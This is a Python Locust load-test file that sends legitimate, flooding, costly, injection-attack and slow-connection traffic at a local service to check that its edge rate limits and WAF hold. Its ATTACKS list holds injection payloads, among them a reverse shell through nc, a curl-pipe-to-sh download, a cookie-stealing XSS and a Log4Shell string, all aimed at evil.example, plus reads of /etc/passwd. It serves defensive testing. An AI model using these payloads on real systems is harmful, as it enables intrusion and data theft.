"""Locust personas for the edge: one legitimate client and four abusers.

Each persona is one `User` class with its own identity: a distinct loopback
source address (127.<block>.<worker>.<n>, see `Persona.block`), and an API
key header when `--api-keys` names one for it. Per-IP limits at the edge
therefore see each persona (and each legitimate user) as its own client.

    LegitimateClient  a realistic mix of Fibonacci requests and check-ins at a
                      steady pace (constant_throughput); any 4xx/5xx fails
    Flooder           cheap requests as fast as it can; 429/503 expected
    CostlyAbuser      the most expensive allowed requests plus out-of-bounds
                      ones; 400/429/503 expected
    Attacker          injection payloads in the query, the JSON body and
                      headers; anything but 403 fails
    ConnectionHog     many concurrent slow requests (one pending per user;
                      refused, it retries after Retry-After, at most 1 s);
                      429/503 expected once the concurrency limits hold it

Every request name starts with the persona ("legit GET /api/fibonacci/[n]"),
so the stats split by persona, also in distributed runs. Besides the
per-request entries, each persona gets an entry of type "persona" (all its
requests) and one of type "served" (its 2xx answers): the per-persona p99
and goodput over time in the stats history come from those.

On `quitting` (the master, or the only process) the run checks its own
thresholds and sets the exit code: no persona may see an unexpected answer
(for the legitimate client: any 4xx/5xx or error), and the legitimate
client must have got at least `--min-goodput` of what it asked for (a
starved client sends less without failing). `--summary-json` writes what
the driver (loadtests/run_load.py) needs to compare scenarios.

Settings live in loadtests/locust.conf; run it with loadtests/run_load.py
(`make load`), which also starts the stack.
"""
import itertools
import json
import random
import socket
import string
import time
from collections import Counter, defaultdict
from urllib.parse import quote, urlsplit

import gevent
import gevent.socket
from locust import FastHttpUser, constant, constant_throughput, events, task
from locust.runners import MasterRunner, WorkerRunner

from app.openapi import document, parameter

# Persona name -> second byte of its source addresses (127.<block>.w.n).
BLOCKS = {"legit": 10, "flooder": 20, "costly": 30, "attacker": 40,
          "hog": 50}
# IP_BIND_ADDRESS_NO_PORT (Linux): pick the source port at connect time,
# so many sockets bound to one address do not exhaust its port range.
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)

# Shapes of classic injections (SQL, XSS, traversal / LFI, OS command,
# template / code), general rather than tied to one rule set.
ATTACKS = {
    "sqli": [
        "1' OR '1'='1",
        "x' UNION SELECT username, password FROM users --",
        "'; DROP TABLE checkins; --",
        "1 AND SLEEP(5)",
        "admin'/**/OR/**/1=1#",
        "1; SELECT pg_sleep(5)",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd",
        "....//....//....//etc/shadow",
        "/proc/self/environ",
        "..\\..\\..\\windows\\win.ini",
    ],
    "command": [
        "; cat /etc/passwd",
        "$(id)",
        "a`cat /etc/passwd`",
        "| nc evil.example 4444 -e /bin/sh",
        "&& curl http://evil.example/x.sh | sh",
    ],
    "code": [
        "${jndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "require('child_process').exec('id')",
    ],
}

NOTES = [
    "Ran 5 km along the river before work.",
    "Coffee with Sam at 9:30, then the planning meeting.",
    "Finished chapter 3 of Dune; the spice stuff is getting good.",
    "Don't forget: buy milk, eggs & bread.",
    "Fixed the bike's rear brake (needed a new cable).",
    "Tried the new ramen place on 5th - 8/10.",
    "Weekly review done. Next: taxes, dentist, call mom.",
    "Select a theme for Saturday's party: 80s or space?",
    "Rainy day, worked from home and drank too much tea.",
    "Climbed 12 routes at the gym, 2 of them 6a+.",
]
SEARCH_TERMS = ["coffee", "run", "chapter", "milk", "gym", "review", "tea"]


def _api_bounds():
    """(largest count, largest n): from the compute service's OpenAPI
    document as this environment (APP_FIB_MAX_*) makes it, so the bounds
    are written once, in app/compute.py."""
    doc = document("compute")
    return (parameter(doc, "/api/fibonacci", "get", "count")["schema"]["maximum"],
            parameter(doc, "/api/fibonacci/{n}", "get", "n")["schema"]["maximum"])


@events.init_command_line_parser.add_listener
def _add_arguments(parser):
    group = parser.add_argument_group("edge personas (loadtests/locust.conf)")
    group.add_argument("--scenario", default="adhoc",
                       help="label of this run (clean, abuse, abuse-direct)")
    group.add_argument("--compute-host", default="",
                       help="base URL for /api/fibonacci (default: --host)")
    group.add_argument("--checkins-host", default="",
                       help="base URL for /api/checkins (default: --host)")
    group.add_argument("--legit-users", type=int, default=20)
    group.add_argument("--legit-rate", type=float, default=5.0,
                       help="requests per second of each legitimate user")
    group.add_argument("--flooders", type=int, default=4)
    group.add_argument("--costly-users", type=int, default=8)
    group.add_argument("--attackers", type=int, default=2)
    group.add_argument("--attack-rate", type=float, default=5.0,
                       help="requests per second of each attacker")
    group.add_argument("--hogs", type=int, default=24)
    max_count, max_n = _api_bounds()
    group.add_argument("--max-count", type=int, default=max_count,
                       help="largest count the API allows (default: the "
                            "compute service's OpenAPI document)")
    group.add_argument("--max-n", type=int, default=max_n,
                       help="largest n the API allows (default: the compute "
                            "service's OpenAPI document)")
    group.add_argument("--source-addresses", choices=("auto", "on", "off"),
                       default="auto",
                       help="bind each persona to its own 127.x address "
                            "(auto: when the target is on loopback)")
    group.add_argument("--api-keys", default="",
                       help="persona=key,... sent in --api-key-header")
    group.add_argument("--api-key-header", default="X-API-Key")
    group.add_argument("--min-goodput", type=float, default=0.95,
                       help="legit successes / legit asked, at least")
    group.add_argument("--summary-json", default="",
                       help="write the run's per-persona figures here")


# -- identity -----------------------------------------------------------------

def _is_loopback(url):
    host = urlsplit(url).hostname or ""
    return host == "localhost" or host.startswith("127.")


def bind_source_address(session, address):
    """Make every connection of a FastHttpSession start from `address`.

    geventhttpclient has no source-address option; its ConnectionPool's
    `_create_tcp_socket` is the documented socket factory hook, so wrap the
    client pool to bind each new socket before it connects.
    """
    clientpool = session.client.clientpool
    get_client = clientpool.get_client

    def create_tcp_socket(family, socktype, protocol):
        sock = gevent.socket.socket(family, socktype, protocol)
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((address, 0))
        return sock

    def bound_get_client(url):
        client = get_client(url)
        pool = client._connection_pool
        pool._create_tcp_socket = create_tcp_socket
        return client

    clientpool.get_client = bound_get_client


# -- per-persona bookkeeping (merged on the master in distributed runs) -------

class Tally:
    """Status counts per persona and the legitimate users' asked requests."""

    def __init__(self):
        self.status = defaultdict(Counter)   # persona -> {status: n}
        self.legit_seconds = 0.0             # user-seconds of legit users
        self.legit_started = {}              # id(user) -> start time
        self.legit_users = 0                 # legit users started
        self.stopped_at = None               # when the test began stopping
        self.workers = {}                    # master: client_id -> report

    def now(self):
        """The clock of the run: it stops when the test starts stopping
        (users still finishing a request then ask for nothing more)."""
        return self.stopped_at or time.monotonic()

    def asked(self, rate):
        """What the legitimate users asked for: constant_throughput runs a
        task at once when a user starts, then one every 1/rate seconds."""
        now = self.now()
        running = sum(now - t for t in self.legit_started.values())
        return rate * (self.legit_seconds + running) + self.legit_users

    def report(self, rate):
        return {"status": {p: dict(c) for p, c in self.status.items()},
                "asked": self.asked(rate)}

    def merged(self, rate):
        reports = [self.report(rate), *self.workers.values()]
        status = defaultdict(Counter)
        for r in reports:
            for persona, counts in r["status"].items():
                status[persona].update({str(k): v for k, v in counts.items()})
        return status, sum(r["asked"] for r in reports)


TALLY = Tally()


@events.report_to_master.add_listener
def _report_to_master(client_id, data):
    data["edge_tally"] = TALLY.report(_options().legit_rate)


@events.test_stopping.add_listener
def _test_stopping(environment, **_kwargs):
    TALLY.stopped_at = time.monotonic()


@events.test_start.add_listener
def _test_start(environment, **_kwargs):
    TALLY.stopped_at = None


@events.worker_report.add_listener
def _worker_report(client_id, data):
    if "edge_tally" in data:
        TALLY.workers[client_id] = data["edge_tally"]


_ENV = {}


def _options():
    return _ENV["environment"].parsed_options


@events.init.add_listener
def _init(environment, **_kwargs):
    _ENV["environment"] = environment
    opts = environment.parsed_options
    if opts is None:  # library use without a command line
        return
    LegitimateClient.fixed_count = opts.legit_users
    LegitimateClient.wait_time = constant_throughput(opts.legit_rate)
    Flooder.fixed_count = opts.flooders
    CostlyAbuser.fixed_count = opts.costly_users
    Attacker.fixed_count = opts.attackers
    Attacker.wait_time = constant_throughput(opts.attack_rate)
    ConnectionHog.fixed_count = opts.hogs


# -- personas -------------------------------------------------------------------

class Persona(FastHttpUser):
    """What every persona shares: identity, URLs, and the answer check."""

    abstract = True
    persona = "?"
    # Answers that are what this persona should get (besides 2xx for the
    # abusers: a request a limit admits is not an error).
    expected = frozenset()
    accept_2xx = True
    # One address per user (many clients) or one for all (one client).
    address_per_user = False
    network_timeout = 30.0
    connection_timeout = 10.0
    _counters = defaultdict(itertools.count)

    def __init__(self, environment):
        super().__init__(environment)
        opts = environment.parsed_options
        self.compute = (opts.compute_host or self.host).rstrip("/")
        self.checkins = (opts.checkins_host or self.host).rstrip("/")
        runner = environment.runner
        worker = getattr(runner, "worker_index", 0) \
            if isinstance(runner, WorkerRunner) else 0
        n = next(self._counters[self.persona]) if self.address_per_user else 0
        self.address = f"127.{BLOCKS[self.persona]}.{worker % 256}.{n % 254 + 1}"
        self.user_name = f"{self.persona}-{worker}-{n}"
        bind = opts.source_addresses == "on" or (
            opts.source_addresses == "auto"
            and _is_loopback(self.compute) and _is_loopback(self.checkins))
        if bind:
            bind_source_address(self.client, self.address)
        keys = dict(item.split("=", 1) for item in opts.api_keys.split(",")
                    if "=" in item)
        self.identity_headers = {}
        if keys.get(self.persona):
            self.identity_headers[opts.api_key_header] = keys[self.persona]

    def call(self, method, base, path, label, headers=None, detail="",
             **kwargs):
        """One request, judged by this persona's expectations; `detail`
        (the payload, say) goes into the failure message."""
        name = f"{self.persona} {method} {label}"
        hdrs = dict(self.identity_headers, **(headers or {}))
        with self.client.request(method, base + path, name=name,
                                 headers=hdrs, catch_response=True,
                                 **kwargs) as resp:
            status = resp.status_code or 0
            TALLY.status[self.persona][status] += 1
            if status in self.expected or (
                    self.accept_2xx and 200 <= status < 300):
                resp.success()
            elif status == 0:
                resp.failure(f"no answer: {resp.error!r}"[:200])
            else:
                resp.failure(f"unexpected {status}"
                             + (f" for {detail}" if detail else ""))
            return resp


class LegitimateClient(Persona):
    """A well-behaved client: a steady mix, every answer must be 2xx."""

    persona = "legit"
    address_per_user = True
    fixed_count = 20
    wait_time = constant_throughput(5)

    def on_start(self):
        TALLY.legit_started[id(self)] = time.monotonic()
        TALLY.legit_users += 1
        self.posted = False

    def on_stop(self):
        started = TALLY.legit_started.pop(id(self), None)
        if started is not None:
            TALLY.legit_seconds += max(TALLY.now() - started, 0.0)

    @task(40)
    def sequence(self):
        count = random.randint(1, 500)  # nosec B311 - load-test traffic mix, not a secret
        self.call("GET", self.compute, f"/api/fibonacci?count={count}",
                  "/api/fibonacci?count=[1-500]")

    @task(25)
    def nth(self):
        n = random.randint(1, 20000)  # nosec B311 - load-test traffic mix, not a secret
        self.call("GET", self.compute, f"/api/fibonacci/{n}",
                  "/api/fibonacci/[1-20000]")

    @task(20)
    def check_in(self):
        self.call("POST", self.checkins, f"/api/checkins/{self.user_name}",
                  "/api/checkins/[user]", json={"note": random.choice(NOTES)})  # nosec B311 - load-test traffic mix, not a secret
        self.posted = True

    @task(15)
    def read_back(self):
        if not self.posted:
            return self.check_in()
        if random.random() < 0.5:  # nosec B311 - load-test traffic mix, not a secret
            term = random.choice(SEARCH_TERMS)  # nosec B311 - load-test traffic mix, not a secret
            self.call("GET", self.checkins,
                      f"/api/checkins/{self.user_name}?q={term}",
                      "/api/checkins/[user]?q=[term]")
        else:
            self.call("GET", self.checkins, f"/api/checkins/{self.user_name}",
                      "/api/checkins/[user]")


class Flooder(Persona):
    """Cheap requests, as fast as one client can send them."""

    persona = "flooder"
    expected = frozenset({429, 503})
    fixed_count = 4
    wait_time = constant(0)

    @task(4)
    def tiny_sequence(self):
        self.call("GET", self.compute, "/api/fibonacci?count=1",
                  "/api/fibonacci?count=1")

    @task(1)
    def health(self):
        self.call("GET", self.compute, "/health", "/health")


class CostlyAbuser(Persona):
    """The most expensive requests the API allows, and some it does not."""

    persona = "costly"
    expected = frozenset({400, 429, 503})
    fixed_count = 8
    wait_time = constant(0)

    @task(6)
    def largest_n(self):
        n = _options().max_n - random.randint(0, 1000)  # nosec B311 - load-test traffic mix, not a secret
        self.call("GET", self.compute, f"/api/fibonacci/{n}",
                  "/api/fibonacci/[max n]")

    @task(2)
    def largest_count(self):
        self.call("GET", self.compute,
                  f"/api/fibonacci?count={_options().max_count}",
                  "/api/fibonacci?count=[max]")

    @task(2)
    def out_of_bounds(self):
        opts = _options()
        path = random.choice([  # nosec B311 - load-test traffic mix, not a secret
            f"/api/fibonacci?count={opts.max_count + 1}",
            f"/api/fibonacci?count={opts.max_count * 1000}",
            "/api/fibonacci?count=99999999999999999999",
            f"/api/fibonacci/{opts.max_n * 10}",
            "/api/fibonacci/123456789012345678901234567890",
            "/api/fibonacci?count=-1",
            "/api/fibonacci?count=1e9",
        ])
        self.call("GET", self.compute, path, "out-of-bounds")


class Attacker(Persona):
    """Injection payloads in the query, a JSON body and headers."""

    persona = "attacker"
    expected = frozenset({403})
    accept_2xx = False
    fixed_count = 2
    wait_time = constant_throughput(5)

    def _payload(self):
        kind = random.choice(list(ATTACKS))  # nosec B311 - load-test traffic mix, not a secret
        return kind, random.choice(ATTACKS[kind])  # nosec B311 - load-test traffic mix, not a secret

    @task(2)
    def in_query(self):
        kind, payload = self._payload()
        self.call("GET", self.checkins,
                  f"/api/checkins/{self.user_name}?q={quote(payload, safe='')}",
                  f"query {kind}", detail=f"q={payload!r}")

    @task(2)
    def in_json_body(self):
        kind, payload = self._payload()
        self.call("POST", self.checkins, f"/api/checkins/{self.user_name}",
                  f"json {kind}", json={"note": payload},
                  detail=f"note={payload!r}")

    @task(1)
    def in_header(self):
        kind, payload = self._payload()
        header = random.choice(["User-Agent", "Referer", "Cookie"])  # nosec B311 - load-test traffic mix, not a secret
        if header == "Cookie":
            payload = "session=" + quote(payload, safe="'()<>/$={}`;|&")
        # Header values cannot carry CR/LF; everything else goes as is.
        payload = "".join(c for c in payload if c in string.printable
                          and c not in "\r\n")
        self.call("GET", self.compute, "/api/fibonacci?count=10",
                  f"header {kind}", headers={header: payload},
                  detail=f"{header}: {payload!r}")


class ConnectionHog(Persona):
    """Many concurrent slow requests from one client."""

    persona = "hog"
    expected = frozenset({429, 503})
    fixed_count = 24
    wait_time = constant(0)
    network_timeout = 60.0

    @task
    def slow(self):
        n = _options().max_n - random.randint(0, 1000)  # nosec B311 - load-test traffic mix, not a secret
        resp = self.call("GET", self.compute, f"/api/fibonacci/{n}",
                         "/api/fibonacci/[max n] (held)")
        if resp.status_code in (429, 503):
            # A hog wants to hold requests, not to flood (the flooder
            # does that): refused, it comes back after Retry-After (at
            # most a second), keeping up to `hogs` requests pending.
            try:
                delay = float(resp.headers.get("Retry-After") or 0.5)
            except ValueError:
                delay = 0.5
            gevent.sleep(min(max(delay, 0.1), 1.0))


PERSONAS = [LegitimateClient, Flooder, CostlyAbuser, Attacker, ConnectionHog]


# -- per-persona aggregate entries and the verdict ----------------------------

@events.request.add_listener
def _per_persona(request_type, name, response_time, response_length,
                 response=None, exception=None, **_kwargs):
    """Log every request a second time into one entry per persona (type
    "persona": all its requests), and its 2xx answers into a third (type
    "served": what the services actually did for it), neither into the
    total. The stats history then has, per persona and over time, the
    goodput (served/s) and the p99 of every answer."""
    stats = _ENV["environment"].stats
    persona = name.split(" ", 1)[0]
    entry = stats.get(persona, "persona")
    entry.log(response_time, response_length or 0)
    if exception is not None:
        entry.log_error(exception)
    status = getattr(response, "status_code", 0) or 0
    if 200 <= status < 300:
        stats.get(persona, "served").log(response_time, response_length or 0)


def _persona_figures(environment):
    """{persona: figures} from the persona entries and the tally."""
    opts = environment.parsed_options
    status, asked = TALLY.merged(opts.legit_rate)
    out = {}
    for (name, method), entry in environment.stats.entries.items():
        if method != "persona" or not entry.num_requests:
            continue
        duration = max(entry.last_request_timestamp - entry.start_time, 1e-9)
        ok = entry.num_requests - entry.num_failures
        served = environment.stats.entries.get((name, "served"))
        served = served.num_requests if served else 0
        figures = {
            "requests": entry.num_requests,
            "failures": entry.num_failures,
            "ok": ok,
            "rps": entry.num_requests / duration,
            "ok_rps": ok / duration,
            "served": served,
            "served_rps": served / duration,
            "p50_ms": entry.get_response_time_percentile(0.50),
            "p99_ms": entry.get_response_time_percentile(0.99),
            "status": dict(sorted(status.get(name, {}).items())),
        }
        if name == "legit":
            figures["asked"] = asked
            figures["got_ratio"] = ok / asked if asked else 0.0
        out[name] = figures
    return out


def verdict(figures, min_goodput, expect_legit=True):
    """Failed checks of one run, as human sentences (empty: passed).
    `expect_legit` is false for a run of abusers only (run_load.py runs the
    legitimate clients in a Locust process of their own)."""
    failed = []
    legit = figures.get("legit")
    if legit is None:
        if expect_legit:
            failed.append("the legitimate client sent no request")
    else:
        fivexx = sum(n for s, n in legit["status"].items()
                     if s.startswith("5"))
        if fivexx:
            failed.append(f"legit got {fivexx} 5xx answers")
        if legit["failures"]:
            failed.append(f"legit had {legit['failures']} failed requests")
        if legit["got_ratio"] < min_goodput:
            failed.append(f"legit got {legit['got_ratio']:.1%} of what it "
                          f"asked for (< {min_goodput:.0%})")
    for persona, f in figures.items():
        if persona != "legit" and f["failures"]:
            failed.append(f"{persona}: {f['failures']} unexpected answers "
                          f"{f['status']}")
    return failed


@events.quitting.add_listener
def _quitting(environment, **_kwargs):
    if isinstance(environment.runner, WorkerRunner):
        return
    opts = environment.parsed_options
    figures = _persona_figures(environment)
    failed = verdict(figures, opts.min_goodput, expect_legit=any(
        cls is LegitimateClient for cls in environment.user_classes))
    for line in failed:
        print(f"THRESHOLD FAILED [{opts.scenario}]: {line}", flush=True)
    if not failed:
        print(f"thresholds passed [{opts.scenario}]", flush=True)
    if failed:
        environment.process_exit_code = 1
    if opts.summary_json:
        with open(opts.summary_json, "w", encoding="utf-8") as f:
            json.dump({"scenario": opts.scenario, "personas": figures,
                       "failed": failed,
                       "distributed": isinstance(environment.runner,
                                                 MasterRunner)},
                      f, indent=2, sort_keys=True)
